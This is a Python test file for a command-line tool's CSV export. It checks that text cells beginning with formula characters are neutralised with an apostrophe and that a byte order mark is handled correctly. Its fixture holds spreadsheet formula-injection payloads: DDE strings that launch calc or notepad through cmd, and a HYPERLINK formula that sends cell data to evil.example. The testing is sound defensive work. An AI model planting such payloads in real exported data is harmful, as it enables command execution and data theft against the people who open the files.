"""CSV a spreadsheet opens safely (reliability M2): a text cell starting with = + - @ (or their
full-width forms) is prefixed with ', as OWASP describes; numbers stay numbers; a byte order mark
when the CSV goes to a file (spreadsheets on Chinese Windows), none into a pipe."""

from __future__ import annotations

import csv
import io
from contextlib import redirect_stdout
from pathlib import Path

import pytest

from tests.helpers import run_cli
from tui.cli.main import main
from tui.present.textfmt import formula_safe

EVIL = """
[[source]]
id = "beta-evil"
file = "seeds/beta.txt"
title = "@SUM(1+1)*cmd|' /C calc'!A0"
date = "2021-01-05"

[[fact]]
id = "beta-evil-lifted"
metric = "poverty.people_lifted"
value = 3100
unit = "人"
bound = "exact"
scope = "＝1+2"
kind = "achieved"
when = "2019"
when_note = "+cmd|' /C notepad'!A0"
source = "beta-evil"
quote = "=HYPERLINK(\\"https://evil.example/?\\"&A1,\\"乙\\")"
note = "-2+3"
"""


def _tree(root: Path) -> Path:
    beta = root / "facts" / "beta.toml"
    beta.write_text(beta.read_text(encoding="utf-8") + EVIL, encoding="utf-8")
    return root


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("＝1+2", "'＝1+2"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠A1", "'＠A1"),
        ("\t=1", "\\x09=1"),  # a tab or CR is a visible escape already: it starts nothing
        ("-5", "-5"),
        ("+3.5", "+3.5"),
        ("乙区=1", "乙区=1"),
        ("", ""),
    ],
)
def test_formula_safe(text: str, safe: str) -> None:
    assert formula_safe(text) == safe


def test_export_csv_neutralises_every_formula_and_keeps_numbers_numeric(mini_tree: Path) -> None:
    code, out, _ = run_cli(["export", "--format", "csv"], _tree(mini_tree))
    assert code == 0 and not out.startswith("\ufeff")  # into a pipe: no byte order mark
    row = next(r for r in csv.DictReader(io.StringIO(out)) if r["id"] == "beta-evil-lifted")
    assert row["quote"] == '\'=HYPERLINK("https://evil.example/?"&A1,"乙")'
    assert row["source_title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["when_note"] == "'+cmd|' /C notepad'!A0"
    assert (row["note"], row["scope"]) == ("'-2+3", "'＝1+2")
    assert (row["value"], row["canonical"], row["when"]) == ("3100", "3100", "2019")
    for cell in (value for r in csv.DictReader(io.StringIO(out)) for value in r.values()):
        assert not cell.startswith(tuple("=+-@＝＋－＠\t\r")) or cell.lstrip("+-").replace(".", "").isdigit(), cell


def test_export_csv_has_a_byte_order_mark_in_a_file_or_when_asked(tmp_path: Path, mini_tree: Path) -> None:
    target = tmp_path / "facts.csv"
    with target.open("w", encoding="utf-8", newline="") as file, redirect_stdout(file):
        assert main(["export", "--format", "csv", "--facts", str(mini_tree)]) == 0
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid,county,")
    assert raw.count(b"\xef\xbb\xbf") == 1
    with target.open("w", encoding="utf-8", newline="") as file, redirect_stdout(file):
        assert main(["export", "--format", "csv", "--no-bom", "--facts", str(mini_tree)]) == 0
    assert target.read_bytes().startswith(b"id,county,")
    code, out, _ = run_cli(["export", "--format", "csv", "--bom"], mini_tree)
    assert code == 0 and out.startswith("\ufeffid,county,")
    assert list(csv.DictReader(io.StringIO(out.removeprefix("\ufeff"))))
